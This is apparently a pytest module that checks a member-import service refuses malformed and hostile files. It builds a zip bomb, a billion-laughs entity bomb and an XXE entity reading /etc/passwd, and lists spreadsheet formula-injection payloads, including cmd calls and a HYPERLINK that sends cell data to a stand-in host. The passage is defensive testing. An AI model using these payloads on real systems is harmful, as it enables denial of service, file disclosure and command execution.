"""The adversarial import corpus, end to end through ``services.import_path``.

The promise to coordinators (docs/import-format.md): *an import with bad rows tells which
rows and why, and changes nothing* — all or nothing per file. Every test here runs on a
real database holding the demo cooperative and checks three things after each import:
what the report says (every bad line named, no good line named), what the database holds
(exactly the expected new rows, or a snapshot equal to the one taken before), and, for
hostile files, that the refusal is quick and file-level.

* committed files: ``tests/data/import_corpus/{good,bad}/`` with ``expected.json``
  (binary/encoded ones written by ``make_corpus.py``);
* hostile files too big to commit are built in ``tmp_path`` by the ``write_*`` helpers;
* random member files mixing good rows and rows corrupted in one way are built by
  :func:`make_mixed_members`, driven by Hypothesis here and by a seeded ``random`` in
  ``scripts/import_corpus_report.py`` (which imports this module's helpers).
"""

from __future__ import annotations

import csv
import importlib.util
import io
import itertools
import json
import random
import time
import unicodedata
import zipfile
from collections import Counter
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from matcher import services
from matcher.domain import Dataset
from matcher.storage import repository

pytestmark = pytest.mark.db

CORPUS = Path(__file__).resolve().parents[1] / "data" / "import_corpus"
EXPECTED: dict[str, Any] = json.loads((CORPUS / "expected.json").read_text(encoding="utf-8"))
TODAY = date.fromisoformat(EXPECTED["today"])
GOOD_FILES = sorted(EXPECTED["good"])
BAD_FILES = sorted(EXPECTED["bad"])
MIB = 1024 * 1024
#: Longest a hostile file may take to be refused (generous: CI machines, PostgreSQL).
QUICK_SECONDS = 10.0


# =======================================================================================
# Database helpers


def load_demo(database: Any) -> None:
    services.load_demo(database, seed=1, today=TODAY)


def snapshot(database: Any) -> Dataset:
    """Every stored row, private ones included."""
    with database.transaction() as session:
        return repository.read_dataset(session)


def added_rows(before: Dataset, after: Dataset) -> dict[str, list]:
    """Rows of ``after`` missing from ``before``, per table (multiset difference)."""
    added: dict[str, list] = {}
    for (table, old), (_, new) in zip(before.tables(), after.tables(), strict=True):
        remaining = Counter(repr(row) for row in old)
        added[table] = []
        for row in new:
            if remaining[repr(row)]:
                remaining[repr(row)] -= 1
            else:
                added[table].append(row)
    return added


def nonzero(counts: dict[str, list]) -> dict[str, int]:
    return {table: len(rows) for table, rows in counts.items() if rows}


def import_file(database: Any, kind: str, path: Path, **options: Any) -> services.ImportReport:
    return services.import_path(database, kind, path, today=TODAY, **options)  # type: ignore[arg-type]


def report_text(report: services.ImportReport) -> str:
    return "\n".join(str(error) for error in report.errors) or "(aucune erreur)"


# =======================================================================================
# Expected errors


@dataclass(frozen=True)
class ExpectedError:
    """``line`` None = file-level; ``column``/``reason`` substrings, None = any."""

    line: int | None
    column: str | None = None
    reason: str | None = None

    def matches(self, error: Any) -> bool:
        if self.line is None:
            if error.line is not None or error.column is not None:
                return False
        elif error.line != self.line:
            return False
        if self.column is not None and (error.column is None or self.column not in error.column):
            return False
        return self.reason is None or self.reason in error.reason


def expected_errors(spec: dict[str, Any]) -> list[ExpectedError]:
    return [ExpectedError(e["line"], e.get("column"), e.get("reason")) for e in spec["errors"]]


def check_errors(errors: Sequence[Any], expected: Sequence[ExpectedError]) -> tuple[list, list]:
    """(expected errors not reported, reported errors on a line expected to be good)."""
    missing = [e for e in expected if not any(e.matches(error) for error in errors)]
    bad_lines = {e.line for e in expected if e.line is not None}
    file_level = any(e.line is None for e in expected)
    stray = [
        error
        for error in errors
        if (error.line is None and not file_level)
        or (error.line is not None and error.line not in bad_lines)
    ]
    return missing, stray


def _plain(value: object) -> object:
    """A stored value as expected.json writes it (dates and times in ISO)."""
    if hasattr(value, "isoformat"):
        text = value.isoformat()  # type: ignore[union-attr]
        return text[:5] if len(text) == 8 and text[2] == ":" else text
    return value


def check_values(new_rows: dict[str, list], checks: Sequence[dict[str, Any]]) -> list[str]:
    """Problems found checking ``values`` of expected.json against the new rows."""
    problems = []
    for check in checks:
        rows = [
            row
            for row in new_rows[check["table"]]
            if all(_plain(getattr(row, k)) == v for k, v in check["where"].items())
        ]
        if len(rows) != 1:
            problems.append(f"{check['table']} {check['where']}: {len(rows)} nouvelles lignes")
            continue
        for name, value in check["equals"].items():
            got = _plain(getattr(rows[0], name))
            if got != value:
                problems.append(f"{check['table']} {check['where']}: {name}={got!r}, ≠ {value!r}")
    return problems


# =======================================================================================
# Committed corpus


def test_every_corpus_file_has_expectations_and_vice_versa():
    on_disk = {
        path.relative_to(CORPUS).as_posix()
        for folder in ("good", "bad")
        for path in (CORPUS / folder).iterdir()
        if path.is_file()
    }
    assert on_disk == set(GOOD_FILES) | set(BAD_FILES)


def _make_corpus_module() -> Any:
    spec = importlib.util.spec_from_file_location("make_corpus", CORPUS / "make_corpus.py")
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _cells(data: bytes) -> list[list[tuple]]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [[tuple(row) for row in sheet.iter_rows(values_only=True)] for sheet in workbook]


def test_generated_corpus_files_are_up_to_date():
    """make_corpus.py must reproduce the committed files (workbooks: same cells)."""
    stale = []
    for name, data in _make_corpus_module().corpus_files().items():
        committed = (CORPUS / name).read_bytes()
        same = data == committed
        if not same and b"xl/workbook.xml" in data:  # openpyxl versions differ in bytes
            same = _cells(data) == _cells(committed)
        if not same:
            stale.append(name)
    assert not stale, f"relancer tests/data/import_corpus/make_corpus.py : {stale}"


@pytest.fixture
def demo_db(database):
    """The ``database`` fixture with the demo cooperative loaded (seed 1, 2026-11-28)."""
    load_demo(database)
    return database


@pytest.mark.parametrize("name", GOOD_FILES)
def test_good_file_dry_run_writes_nothing_then_import_adds_exactly_its_rows(demo_db, name):
    spec = EXPECTED["good"][name]
    before = snapshot(demo_db)
    dry = import_file(demo_db, spec["kind"], CORPUS / name, dry_run=True)
    assert dry.ok, report_text(dry)
    assert not dry.written
    assert dry.counts == spec["counts"]
    assert snapshot(demo_db) == before

    report = import_file(demo_db, spec["kind"], CORPUS / name)
    after = snapshot(demo_db)
    assert report.ok, report_text(report)
    assert report.written
    assert report.counts == spec["counts"]
    new_rows = added_rows(before, after)
    assert nonzero(new_rows) == spec["counts"]
    assert nonzero(added_rows(after, before)) == {}, "des lignes existantes ont changé"
    assert check_values(new_rows, spec.get("values", [])) == []


@pytest.mark.parametrize("name", GOOD_FILES)
def test_second_import_of_a_good_file_is_refused_and_changes_nothing(demo_db, name):
    """Members are duplicates by name and birth date, requests by collective, client, title
    and sessions (docs §2 and §3), so a file without ids cannot be imported twice."""
    spec = EXPECTED["good"][name]
    assert import_file(demo_db, spec["kind"], CORPUS / name).written
    after_first = snapshot(demo_db)
    again = import_file(demo_db, spec["kind"], CORPUS / name)
    assert snapshot(demo_db) == after_first
    assert not again.ok and not again.written
    reasons = {error.line: error.reason for error in again.errors}
    assert None not in reasons, report_text(again)
    assert all("doublon" in r or "déjà utilisé" in r for r in reasons.values()), report_text(again)
    if spec["kind"] == "members":  # every member is a duplicate of the first import
        assert len(reasons) == spec["counts"]["members"], report_text(again)


@pytest.mark.parametrize("name", BAD_FILES)
def test_bad_file_names_every_bad_row_and_changes_nothing(demo_db, name):
    spec = EXPECTED["bad"][name]
    before = snapshot(demo_db)
    report = import_file(demo_db, spec["kind"], CORPUS / name)
    assert snapshot(demo_db) == before
    assert not report.ok and not report.written
    missing, stray = check_errors(report.errors, expected_errors(spec))
    assert not missing, f"non signalées : {missing}\nrapport :\n{report_text(report)}"
    assert not stray, "erreurs sur des lignes bonnes :\n" + "\n".join(map(str, stray))
    file_name = Path(name).name
    assert all(str(error).startswith(file_name) for error in report.errors), report_text(report)


# =======================================================================================
# Hostile files, built at test time


def _member_line(index: int) -> str:
    return f"kpa-alma;Membre {index};{legal_name_for(index)};{_birth_for(index):%d/%m/%Y};Alma\n"


_MEMBER_HEADER = "collectif;nom affiché;nom;date de naissance;quartier\n"


def write_oversized_csv(folder: Path) -> Path:
    """A real-looking members CSV just over 10 Mio."""
    path = folder / "membres_trop_gros.csv"
    block = "".join(map(_member_line, range(1000))).encode("utf-8")
    repeats = 10 * MIB // len(block) + 1
    path.write_bytes(_MEMBER_HEADER.encode("utf-8") + block * repeats)
    return path


def write_many_rows_csv(folder: Path, rows: int = 20_001) -> Path:
    path = folder / f"membres_{rows}_lignes.csv"
    path.write_text(_MEMBER_HEADER + "".join(map(_member_line, range(rows))), encoding="utf-8")
    return path


def write_too_many_columns_csv(folder: Path) -> Path:
    header = ["collectif", "nom affiché", "nom", "date de naissance"]
    header += [f"# note {n}" for n in range(1, 100)]
    path = folder / "membres_101_colonnes.csv"
    path.write_text(";".join(header) + "\n" + _member_line(1), encoding="utf-8")
    return path


def _small_workbook() -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["collectif", "nom affiché", "nom", "date de naissance"])
    sheet.append(["kpa-alma", "Inès", "Inès Benali-Lambert", "14/05/2007"])
    raw = io.BytesIO()
    workbook.save(raw)
    return raw.getvalue()


_SHARED_STRINGS_TYPE = (
    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
)


def _rewrite_xlsx(
    path: Path, replace: dict[str, bytes | Callable[[Any], None]], extra: int = 0
) -> Path:
    """The small workbook with parts replaced or added (bytes, or a writer of the entry).

    An added ``xl/sharedStrings.xml`` is declared in ``[Content_Types].xml`` so that
    openpyxl reads it when it opens the workbook.
    """
    with (
        zipfile.ZipFile(io.BytesIO(_small_workbook())) as source,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target,
    ):
        names = [info.filename for info in source.infolist()]
        for name in [*names, *(n for n in replace if n not in names)]:
            content = replace.get(name) or source.read(name)
            new_strings = "xl/sharedStrings.xml" in replace and "xl/sharedStrings.xml" not in names
            if name == "[Content_Types].xml" and new_strings:
                assert isinstance(content, bytes)
                content = content.replace(b"</Types>", _SHARED_STRINGS_TYPE + b"</Types>")
            if callable(content):
                with target.open(name, "w", force_zip64=True) as handle:
                    content(handle)
            else:
                target.writestr(name, content)
        for number in range(extra):
            target.writestr(f"customXml/item{number}.xml", b"<a/>")
    return path


_SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
_SHEET_TAIL = b"</sheetData></worksheet>"


def write_zip_bomb_xlsx(folder: Path, inflated: int = 150 * MIB) -> Path:
    """A workbook whose sheet inflates from ~150 Kio to 150 Mio of blanks (valid XML)."""

    def sheet(handle: Any) -> None:
        handle.write(_SHEET_HEAD)
        block = b" " * MIB
        for _ in range(inflated // MIB):
            handle.write(block)
        handle.write(_SHEET_TAIL)

    return _rewrite_xlsx(folder / "membres_zip_bomb.xlsx", {"xl/worksheets/sheet1.xml": sheet})


def write_forged_sizes_xlsx(folder: Path) -> Path:
    """A 50 Mio sheet whose zip headers claim 1,000 bytes (the checks read the headers)."""
    path = folder / "membres_tailles_falsifiees.xlsx"
    blob = _SHEET_HEAD + b" " * (50 * MIB) + _SHEET_TAIL
    with (
        zipfile.ZipFile(io.BytesIO(_small_workbook())) as source,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target,
    ):
        for info in source.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                target.writestr(info.filename, blob)
            else:
                target.writestr(info.filename, source.read(info.filename))
    data = bytearray(path.read_bytes())
    name = b"xl/worksheets/sheet1.xml"
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            name_at = start + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at : name_at + len(name)] == name:
                data[start + size_at : start + size_at + 4] = (1000).to_bytes(4, "little")
            start += 4
    path.write_bytes(bytes(data))
    return path


def write_many_entries_xlsx(folder: Path) -> Path:
    return _rewrite_xlsx(folder / "membres_1001_elements.xlsx", {}, extra=1001)


_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'.encode()
        for n in range(1, 10)
    )
    + b"]>"
)


def write_billion_laughs_xlsx(folder: Path, part: str = "xl/sharedStrings.xml") -> Path:
    """XML entity expansion (10⁹ « lol ») inside a workbook part."""
    ns = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    if part == "xl/sharedStrings.xml":
        body = b"<sst " + ns + b' count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'
        name = "membres_billion_laughs.xlsx"
    else:
        body = (
            b"<worksheet " + ns + b'><sheetData><row r="1"><c r="A1" t="inlineStr"><is>'
            b"<t>&lol9;</t></is></c></row></sheetData></worksheet>"
        )
        name = "membres_billion_laughs_feuille.xlsx"
    return _rewrite_xlsx(folder / name, {part: _LAUGHS + body})


def write_external_entity_xlsx(folder: Path) -> Path:
    """XXE: a shared string that would include /etc/passwd."""
    body = (
        b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        b'uniqueCount="1"><si><t>&xxe;</t></si></sst>'
    )
    return _rewrite_xlsx(folder / "membres_xxe.xlsx", {"xl/sharedStrings.xml": body})


def write_far_row_xlsx(folder: Path, row: int = 1_048_576) -> Path:
    """A 5 Kio workbook: two good members, the second on a far row (blank rows between)."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["collectif", "nom affiché", "nom", "date de naissance", "quartier"])
    for line, index in ((2, 3), (row, 4)):
        for column, value in enumerate(_member_line(index).strip().split(";"), start=1):
            sheet.cell(row=line, column=column, value=value)
    path = folder / f"membres_ligne_{row}.xlsx"
    workbook.save(path)
    return path


def write_blank_lines_csv(folder: Path) -> Path:
    """A header, one member, then 10 Mio of empty lines (all ignored by the rules)."""
    path = folder / "membres_lignes_vides.csv"
    path.write_bytes((_MEMBER_HEADER + _member_line(5)).encode() + b"\n" * (10 * MIB - 200))
    return path


def write_wide_row_csv(folder: Path) -> Path:
    """One data line of 10 Mio of separators (ten million empty cells)."""
    path = folder / "membres_ligne_large.csv"
    path.write_bytes(_MEMBER_HEADER.encode() + _member_line(6).encode() + b";" * (10 * MIB - 200))
    return path


@dataclass(frozen=True)
class Hostile:
    name: str
    build: Callable[[Path], Path]
    #: Substring of the file-level reason; "" = any file-level refusal.
    fragment: str = ""
    #: False: the rules accept the file (nothing in it is wrong); only time is checked.
    refused: bool = True


HOSTILE = (
    Hostile("trop_gros", write_oversized_csv, "trop gros"),
    Hostile("20001_lignes", write_many_rows_csv, "lignes"),
    Hostile("101_colonnes", write_too_many_columns_csv, "colonnes"),
    Hostile("zip_bomb", write_zip_bomb_xlsx, "anormalement gros"),
    Hostile("zip_tailles_falsifiees", write_forged_sizes_xlsx),
    Hostile("zip_1001_elements", write_many_entries_xlsx, "éléments"),
    Hostile("billion_laughs", write_billion_laughs_xlsx),
    Hostile(
        "billion_laughs_feuille",
        lambda folder: write_billion_laughs_xlsx(folder, "xl/worksheets/sheet1.xml"),
    ),
    Hostile("xxe", write_external_entity_xlsx),
)
#: Small files that are costly to read naively. Blank lines and empty cells at the end of a
#: CSV are dropped (accepted); a row beyond the line limit (20 000 data rows + 10 000 blank
#: lines, docs §1) is refused as soon as the reader passes the limit.
SLOW_HOSTILE = (
    Hostile("ligne_1048576", write_far_row_xlsx, "lignes vides"),
    Hostile("10_mio_de_lignes_vides", write_blank_lines_csv, refused=False),
    Hostile("ligne_de_10_mio", write_wide_row_csv, refused=False),
)


def run_hostile(database: Any, hostile: Hostile, folder: Path) -> tuple[Any, float, Path]:
    path = hostile.build(folder)
    start = time.perf_counter()
    report = import_file(database, "members", path)
    return report, time.perf_counter() - start, path


@pytest.mark.parametrize("hostile", HOSTILE, ids=lambda h: h.name)
def test_hostile_file_is_refused_quickly_at_file_level(demo_db, tmp_path, hostile):
    before = snapshot(demo_db)
    report, seconds, path = run_hostile(demo_db, hostile, tmp_path)
    assert snapshot(demo_db) == before
    assert not report.ok and not report.written
    assert seconds < QUICK_SECONDS
    assert len(report.errors) == 1, report_text(report)
    [error] = report.errors
    assert error.line is None and error.column is None, str(error)
    assert hostile.fragment in error.reason, str(error)
    assert str(error).startswith(f"{path.name} : "), str(error)
    assert "root:" not in str(error)


@pytest.mark.parametrize(
    "hostile",
    [
        *SLOW_HOSTILE,
        Hostile("ligne_200000", lambda folder: write_far_row_xlsx(folder, 200_000), "lignes"),
        Hostile("ligne_30001", lambda folder: write_far_row_xlsx(folder, 30_001), refused=False),
    ],
    ids=lambda h: h.name,
)
def test_small_file_with_far_cells_is_handled_quickly(demo_db, tmp_path, hostile):
    """A few Kio (or blank Mio) with a cell far away: read quickly, or refused quickly.

    Before: a 5 Kio workbook with a member on row 1,048,576 took ~80 s, 10 Mio of blank
    lines ~15 s, a line of 10 Mio of ``;`` ~10 s.
    """
    before = snapshot(demo_db)
    report, seconds, _ = run_hostile(demo_db, hostile, tmp_path)
    assert seconds < QUICK_SECONDS
    if hostile.refused:
        assert snapshot(demo_db) == before
        assert not report.ok and len(report.errors) == 1, report_text(report)
        [error] = report.errors
        assert error.line is None and error.column is None, str(error)
        assert hostile.fragment in error.reason, str(error)
    else:
        assert report.ok, report_text(report)
        assert report.written and report.counts["members"] >= 1


def test_exactly_20000_rows_pass_the_limit(demo_db, tmp_path):
    report = import_file(demo_db, "members", write_many_rows_csv(tmp_path, 20_000), dry_run=True)
    assert report.ok, report_text(report)[:2000]
    assert report.rows_read == 20_000
    assert report.counts["members"] == 20_000


# =======================================================================================
# Random files mixing good rows and rows corrupted in one way

FIRST_NAMES = (
    "Inès", "Yanis", "Chaïma", "Moussa", "Élodie", "Noé", "Chloé", "Rayan", "Kenza", "Hugo",
    "Lina", "Théo", "Aminata", "Enzo", "Khadija", "Lucas", "Sofiane", "Maëlys", "Bilal", "Jade",
    "Wassim", "Océane", "Ilyes", "Manon", "Ousmane", "Zoé", "Naïm", "Salomé", "Emre", "Fatou",
)  # fmt: skip
LAST_NAMES = (
    "Benali", "Martin", "El Idrissi", "Diallo", "Lefèvre", "Vandenbroucke", "Dubois",
    "Boukhris", "Amrani", "Desmet", "Haddad", "Lefebvre", "Camara", "Duhamel", "Kaci",
    "Vermeersch", "Bouzid", "Lambert", "Mansouri", "Carpentier", "Hamidi", "Wallart", "Cherif",
    "Ferreira", "Sow", "Cœurdevey", "Saïdi", "Desbonnet", "Öztürk", "Mabiala",
)  # fmt: skip
#: Fresh names for every generated row, so duplicates happen only when a fault asks.
_NEXT_NAME = itertools.count(1)


def legal_name_for(index: int) -> str:
    """A distinct French legal name for each index below 27,000."""
    first = FIRST_NAMES[index % 30]
    middle = LAST_NAMES[(index // 30) % 30]
    last = LAST_NAMES[(index // 900) % 30]
    return f"{first} {middle}-{last}"


def _birth_for(index: int) -> date:
    return date(1985, 1, 1) + timedelta(days=(index * 37) % 9000)


MEMBER_COLUMNS = (
    ("id", "identifiant"),
    ("collective", "collectif"),
    ("display_name", "nom affiché"),
    ("legal_name", "nom"),
    ("birth_date", "date de naissance"),
    ("contact", "contact"),
    ("status", "statut"),
    ("home_zone", "quartier"),
    ("mobility", "mobilité"),
    ("languages", "langues"),
    ("desired_hours_min", "heures min"),
    ("desired_hours_max", "heures max"),
    ("skills", "compétences"),
    ("wishes", "souhaits"),
    ("passions", "passions"),
    ("availability", "disponibilités"),
    ("unavailability", "absences"),
)
FORMATS = ("csv;utf-8", "csv,utf-8-sig", "csv;cp1252", "xlsx")
COLLECTIVES = (
    "kpa-alma",
    "kpa-epeule",
    "kpa-tourcoing-bourgogne",
    "KPA Alma",
    "KPA Épeule",
    "KPA Tourcoing – La Bourgogne",
)
SKILLS = (
    "cuisine", "patisserie", "couture", "retouches", "hygiene-alimentaire", "service-en-salle",
    "menuiserie", "jardinage", "video", "graphisme", "bureautique",
)  # fmt: skip
GOOD_CHOICES: dict[str, tuple[str, ...]] = {
    "contact": ("", "+33 6 12 34 56 78", "06 98 76 54 32", "prenom.nom@example.org"),
    "status": ("", "volunteer", "Bénévole", "cape", "CESA", "associe"),
    "home_zone": ("", "Alma", "Épeule", "Pile", "Bourgogne", "Trois-Ponts", "Hommelet"),
    "mobility": ("", "walk", "Vélo", "public_transport", "Transports en commun"),
    "languages": ("", "fr", "fr|ar", "fr|en|tr", "fr|wo"),
    "passions": (
        "",
        "rap|football",
        "'- la danse|dessin",
        "la cuisine de ma grand-mère\net la pâtisserie",
        "couture, broderie; tricot",
        "- le théâtre",
    ),
    "availability": ("", "sam 08:00-18:00|mer 14:00-18:00", "lun 9h-12h", "ven 9h30–12h30"),
    "unavailability": ("", "24/12/2026", "19/12/2026 14:00-18:00|2026-12-31"),
}
FORMULAS = (
    '=HYPERLINK("http://exemple.invalid/?q="&A1;"Cliquez ici")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "=1+1",
    "-2+3+cmd|' /C calc'!A0",
)


class Chooser:
    """Uniform random choices from a ``random.Random``: seeded (report script) or drawn by
    Hypothesis with ``st.randoms()`` (replayed and shrunk by Hypothesis)."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng

    def integer(self, low: int, high: int) -> int:
        return self.rng.randint(low, high)

    def choice(self, items: Sequence[Any]) -> Any:
        return items[self.integer(0, len(items) - 1)]


@dataclass
class MixContext:
    """What faults may point at: stored people and ids, and earlier good rows of the file."""

    people: list[tuple[str, str, date]]
    member_ids: list[str]
    folder: Path
    earlier_good: list[dict[str, Any]] = field(default_factory=list)

    @classmethod
    def from_dataset(cls, dataset: Dataset, folder: Path) -> MixContext:
        collective = {m.id: m.collective_id for m in dataset.members}
        people = [
            (collective[p.member_id], p.legal_name, p.birth_date) for p in dataset.member_private
        ]
        return cls(people[:200], [m.id for m in dataset.members][:200], folder)


def _shout(name: str) -> str:
    """Same person key: upper case, no accents, hyphens for spaces."""
    plain = "".join(c for c in unicodedata.normalize("NFKD", name) if not unicodedata.combining(c))
    return plain.upper().replace(" ", "-")


def good_row(chooser: Chooser, fmt: str) -> dict[str, Any]:
    index = next(_NEXT_NAME)
    name = legal_name_for(index)
    birth = date(1980, 1, 1) + timedelta(days=chooser.integer(0, 11_289))  # ≤ 2010-11-28
    row: dict[str, Any] = {
        "id": f"m-x{index}" if chooser.integer(0, 3) == 0 else "",
        "collective": chooser.choice(COLLECTIVES),
        "display_name": f"{name.split()[0]} {name.split()[1][0]}.",
        "legal_name": name,
        "birth_date": birth,
        "birth_style": chooser.choice(("fr", "iso", "cell" if fmt == "xlsx" else "fr")),
    }
    for key, choices in GOOD_CHOICES.items():
        row[key] = chooser.choice(choices)
    low, high = chooser.choice((("", ""), ("0", "8"), ("2", "12,5"), ("4", "20"), ("", "7.5")))
    row["desired_hours_min"], row["desired_hours_max"] = low, high
    skills = [chooser.choice(SKILLS) for _ in range(chooser.integer(0, 3))]
    row["skills"] = "|".join(f"{s}:{chooser.integer(0, 4)}" for s in dict.fromkeys(skills))
    wishes = [chooser.choice(SKILLS) for _ in range(chooser.integer(0, 2))]
    row["wishes"] = "|".join(dict.fromkeys(wishes))
    return row


def _set(key: str, *values: str) -> Callable[[dict[str, Any], Chooser, MixContext], None]:
    def fault(row: dict[str, Any], chooser: Chooser, context: MixContext) -> None:
        row[key] = chooser.choice(values)

    return fault


def _duplicate_earlier(row: dict[str, Any], chooser: Chooser, context: MixContext) -> None:
    if not context.earlier_good:
        _duplicate_stored(row, chooser, context)
        return
    other = chooser.choice(context.earlier_good)
    row["collective"] = other["collective"]
    row["legal_name"] = chooser.choice((_shout(other["legal_name"]), other["legal_name"].lower()))
    row["birth_date"] = other["birth_date"]


def _duplicate_stored(row: dict[str, Any], chooser: Chooser, context: MixContext) -> None:
    collective, name, birth = chooser.choice(context.people)
    row["collective"], row["legal_name"], row["birth_date"] = collective, _shout(name), birth


def _used_id(row: dict[str, Any], chooser: Chooser, context: MixContext) -> None:
    earlier = [r["id"] for r in context.earlier_good if r["id"]]
    row["id"] = chooser.choice(earlier or context.member_ids)


def _formula(row: dict[str, Any], chooser: Chooser, context: MixContext) -> None:
    key = chooser.choice(("display_name", "contact", "home_zone", "passions", "legal_name"))
    row[key] = chooser.choice(FORMULAS)


def _empty_required(row: dict[str, Any], chooser: Chooser, context: MixContext) -> None:
    row[chooser.choice(("collective", "display_name", "legal_name", "birth_date"))] = ""


def _hours_inverted(row: dict[str, Any], chooser: Chooser, context: MixContext) -> None:
    row["desired_hours_min"], row["desired_hours_max"] = "20", "8"


def _bidi(row: dict[str, Any], chooser: Chooser, context: MixContext) -> None:
    row["display_name"] = row["display_name"][:-1] + "\u202egnp.exe"


def _control(row: dict[str, Any], chooser: Chooser, context: MixContext) -> None:
    row["legal_name"] = row["legal_name"].replace(" ", "\x0c", 1)


def _line_break(row: dict[str, Any], chooser: Chooser, context: MixContext) -> None:
    row["legal_name"] = row["legal_name"].replace(" ", "\n", 1)


FaultFn = Callable[[dict[str, Any], Chooser, MixContext], None]
FAULTS: dict[str, FaultFn] = {
    "date_invalide": _set("birth_date", "31/02/2009", "2009-13-01", "15/06/08", "30/02/2008"),
    "moins_de_16_ans": _set("birth_date", "12/03/2012", "29/11/2010", "2011-01-15"),
    "naissance_future": _set("birth_date", "01/01/2027", "2030-05-05", "29/11/2026"),
    "competence_inconnue": _set("skills", "cusine:2", "astrophysique:1", "cuisine:2|Pâtisserie:1"),
    "souhait_inconnu": _set("wishes", "astrophysique", "cuisine|cusine"),
    "niveau_invalide": _set("skills", "cuisine:7", "couture:trois", "menuiserie", "video:-1"),
    "collectif_inconnu": _set(
        "collective", "kpa-lille", "KPA Wattrelos", "KPA Tourcoing - La Bourgogne"
    ),
    "statut_invalide": _set("status", "stagiaire", "president", "bénévole confirmé"),
    "plage_inversee": _set("availability", "sam 18:00-08:00", "mer 14h-14h"),
    "jour_invalide": _set("availability", "samdi 09:00-12:00", "fun 10:00-12:00|sam 9h-12h"),
    "absence_invalide": _set("unavailability", "24/12/2026 18:00-14:00", "31/12/26"),
    "heures_inversees": _hours_inverted,
    "langue_invalide": _set("languages", "français", "fr|x"),
    "doublon_dans_le_fichier": _duplicate_earlier,
    "doublon_existant": _duplicate_stored,
    "identifiant_utilise": _used_id,
    "identifiant_invalide": _set("id", "m 12", "m-é1", "-m1"),
    "formule": _formula,
    "obligatoire_vide": _empty_required,
    "trop_long": _set("display_name", "Très long nom " * 180),
    "retour_a_la_ligne": _line_break,
    "inversion_bidi": _bidi,
    "caractere_de_controle": _control,
}
#: Faults a format cannot carry (cp1252 has no U+202E; XLSX cells refuse control bytes).
_UNSUPPORTED = {"csv;cp1252": {"inversion_bidi"}, "xlsx": {"caractere_de_controle"}}


@dataclass
class MixedFile:
    path: Path
    fmt: str
    rows: list[dict[str, Any]]
    #: Spreadsheet line → fault name, for the corrupted rows.
    faults: dict[int, str]

    @property
    def bad_lines(self) -> set[int]:
        return set(self.faults)

    @property
    def good_rows(self) -> list[dict[str, Any]]:
        return [row for row in self.rows if row["line"] not in self.faults]


_FILE_NUMBER = itertools.count(1)


def make_mixed_members(chooser: Chooser, context: MixContext) -> MixedFile:
    """A members file of 1–8 rows, some of them (maybe none) corrupted in one random way."""
    fmt = chooser.choice(FORMATS)
    english = chooser.integer(0, 1) == 1
    with_faults = chooser.integer(0, 2) > 0
    faults_allowed = [f for f in FAULTS if f not in _UNSUPPORTED.get(fmt, set())]
    context.earlier_good = []
    rows, faults, line = [], {}, 1
    for _ in range(chooser.integer(1, 8)):
        line += 1 + (chooser.integer(0, 9) == 0)  # now and then a blank line before
        row = good_row(chooser, fmt)
        row["line"] = line
        if with_faults and chooser.integer(0, 2) == 0:
            fault = chooser.choice(faults_allowed)
            FAULTS[fault](row, chooser, context)
            faults[line] = fault
        else:
            context.earlier_good.append(row)
        rows.append(row)
    path = context.folder / f"membres_melange_{next(_FILE_NUMBER)}.{fmt[:4].rstrip(';,')}"
    write_members(path, fmt, rows, english=english)
    return MixedFile(path, fmt, rows, faults)


def _cell(row: dict[str, Any], key: str) -> Any:
    value = row[key]
    if key == "birth_date" and isinstance(value, date):
        if row["birth_style"] == "cell":
            return value
        return value.isoformat() if row["birth_style"] == "iso" else f"{value:%d/%m/%Y}"
    return value


def write_members(path: Path, fmt: str, rows: Sequence[dict[str, Any]], *, english: bool) -> None:
    header = [key if english else label for key, label in MEMBER_COLUMNS]
    by_line = {row["line"]: row for row in rows}
    last = max(by_line, default=1)
    records: list[list[Any]] = [header]
    for line in range(2, last + 1):
        row = by_line.get(line)
        records.append([_cell(row, key) for key, _ in MEMBER_COLUMNS] if row else [])
    if fmt == "xlsx":
        workbook = openpyxl.Workbook()
        sheet = workbook.active
        for number, record in enumerate(records, start=1):
            for column, value in enumerate(record, start=1):
                if value not in ("", None):
                    sheet.cell(row=number, column=column, value=value)
        workbook.save(path)
        return
    delimiter, encoding = fmt[3], fmt[4:]
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerows(records)
    path.write_bytes(buffer.getvalue().encode(encoding))


@dataclass
class MixedOutcome:
    """What one mixed file did to the database, judged against what it should do."""

    problems: list[str]
    written: bool
    named_lines: set[int | None]
    new_members: int
    rows_read: int = 0
    changed: bool = False
    seconds: float = 0.0


def judge_mixed(database: Any, mixed: MixedFile, before: Dataset) -> MixedOutcome:
    start = time.perf_counter()
    report = import_file(database, "members", mixed.path)
    seconds = time.perf_counter() - start
    after = snapshot(database)
